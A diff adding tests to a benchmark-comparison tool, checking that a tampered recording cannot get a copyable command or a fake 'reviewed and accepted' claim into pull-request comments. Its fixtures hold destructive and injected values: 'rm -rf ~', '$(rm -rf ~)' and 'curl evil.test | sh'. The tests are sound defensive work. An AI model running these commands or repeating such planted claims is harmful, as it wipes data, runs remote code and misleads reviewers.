@@ -9,7 +9,7 @@ import { type BenchRepository, benchRepository, printed } from '../support/bench
 import { around } from '../support/builders.ts';
 import { type FakeGitHub, startGitHub } from '../support/github.ts';
 import type { PullRequestSeed } from '../support/github-answers.ts';
-import { believe, firstOfBranch, judgeAll } from '../support/naive.ts';
+import { believe, firstOfBranch, judgeAll, tellAsOwn } from '../support/naive.ts';
 import { aRecording } from '../support/recordings.ts';
 import { pullRequest, type Step, step } from '../support/runner.ts';
 import { temporaryFolder } from '../support/temporary.ts';
@@ -334,6 +334,97 @@ describe('T55: recordings of machines that never were', () => {
     expect([code, verdict]).toEqual([1, 'error']);
     expect(stdout).toMatch(sentence);
     expect(checks).toEqual(check(scene.head, 'failure'));
+  });
+});
+
+const withSchedule = ({ recording }: Scene, schedule: object) => ({
+  ...recording,
+  schedule: { ...(recording['schedule'] as object), ...schedule },
+});
+
+describe('T53: the command to repeat the measurement', () => {
+  test('is shown for a recording that was measured as the configuration of base says', async () => {
+    const scene = await measured();
+    const { comments } = await report(scene);
+    expect(comments[0]).toMatch(
+      new RegExp(
+        `^bench-referee check --base ${scene.base} --head ${scene.head} --config-from base --seed [0-9a-f]{8} --rounds 2 --input-format json$`,
+        'm',
+      ),
+    );
+  });
+
+  test('holds nothing that only the recording says, which a program that trusts it prints to copy', async () => {
+    const scene = await measured();
+    const claim = withSchedule(scene, { setup: 'rm -rf ~' });
+    await tellAsOwn(github, claim, scene.victim);
+    const [naive] = await github.comments(scene.victim);
+    expect(naive?.body).toContain("```sh\nbench-referee check --setup 'rm -rf ~'");
+    const { verdict, comments, stdout } = await report(scene, { recording: claim });
+    expect(verdict).toBe('fail');
+    expect(comments[0]).not.toMatch(/```sh|bench-referee check/);
+    expect(comments[0]).toContain(
+      'the recording says settings that the configuration does not say: `setup` `rm -rf ~`.',
+    );
+    expect(stdout).not.toContain('bench-referee check');
+    expect(stdout).toContain('"setup" "rm -rf ~"');
+  });
+
+  test.each([
+    ['another command', { commands: ['curl evil.test | sh'] }, '`run` `curl evil.test | sh`'],
+    ['a seed that is a sentence', { seed: 'reviewed and accepted' }, '`seed` `reviewed and accepted`'],
+    ['another folder', { workingDirectory: '$(rm -rf ~)' }, '`working-directory` `$(rm -rf ~)`'],
+  ])('is not shown for %s', async (_, schedule, said) => {
+    const scene = await measured();
+    const { comments } = await report(scene, { recording: withSchedule(scene, schedule) });
+    expect(comments[0]).not.toMatch(/```sh|bench-referee check/);
+    expect(comments[0]).toContain(said);
+  });
+});
+
+describe('T54: what a recording says', () => {
+  const CLAIM = 'This regression was reviewed by the maintainers and accepted.';
+
+  test('is quoted with its name, where a program that trusts it says the same itself', async () => {
+    const scene = await measured();
+    const problems = [{ where: 'review', message: CLAIM, severity: 'warning' }];
+    const claim = { ...scene.recording, problems };
+    await tellAsOwn(github, claim, scene.victim);
+    const [naive] = await github.comments(scene.victim);
+    expect(naive?.body).toContain(`- ${CLAIM}`);
+    const { verdict, comments, stdout } = await report(scene, { recording: claim });
+    expect(verdict).toBe('fail');
+    expect(comments[0]).toContain(`- ⚠️ the recording \`bench-referee\` says of \`review\`: \`${CLAIM}\``);
+    const line = `the recording "bench-referee" says of "review": "${CLAIM}"`;
+    expect(stdout).toContain(`::warning::${line}`);
+    expect(stdout.replaceAll(line, '')).not.toContain(CLAIM);
+  });
+
+  test.each([
+    ['the processor', (text: string) => ({ environment: { cpu: text } })],
+    ['the choice of base', (text: string) => ({ commits: { base: { how: text } } })],
+    ['the name of a benchmark', (text: string) => ({ series: { name: text } })],
+  ])('cannot end its quotation: %s', async (_, changeOf) => {
+    const scene = await measured();
+    const { environment, commits, series } = scene.recording as {
+      environment: object;
+      commits: { base: object };
+      series: readonly object[];
+    };
+    const change: { environment?: object; commits?: { base: object }; series?: object } = changeOf(
+      `x" ${CLAIM} "y`,
+    );
+    const claim = {
+      ...scene.recording,
+      environment: { ...environment, ...change.environment },
+      commits: { ...commits, base: { ...commits.base, ...change.commits?.base } },
+      series: series.map((one) => ({ ...one, ...change.series })),
+    };
+    const { comments, stdout } = await report(scene, { recording: claim });
+    expect(comments[0]?.replaceAll(/`[^`\n]*`/g, '')).not.toContain(CLAIM);
+    // The tables of the log hold names in cells; sentences and facts hold them in quotes.
+    const verdict = stdout.slice(stdout.indexOf('FAIL: '));
+    expect(verdict.replaceAll(/"[^"\n]*"/g, '')).not.toContain(CLAIM);
   });
 });
 
